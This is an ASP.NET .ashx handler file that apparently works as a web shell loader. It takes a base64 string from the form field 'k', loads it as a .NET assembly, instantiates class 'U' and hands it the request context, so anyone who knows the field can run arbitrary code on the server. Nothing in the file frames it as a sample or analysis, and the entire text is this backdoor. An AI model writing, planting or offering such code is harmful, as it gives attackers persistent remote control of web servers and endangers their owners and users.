<%@ WebHandler Language="C#" Class="Handler" %>
using System; using System.Web; using System.Reflection;
public class Handler : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext context) {
    byte[] held = Convert.FromBase64String(context.Request.Form["k"]);
    Assembly.Load(held).CreateInstance("U").Equals(context);
  }
}
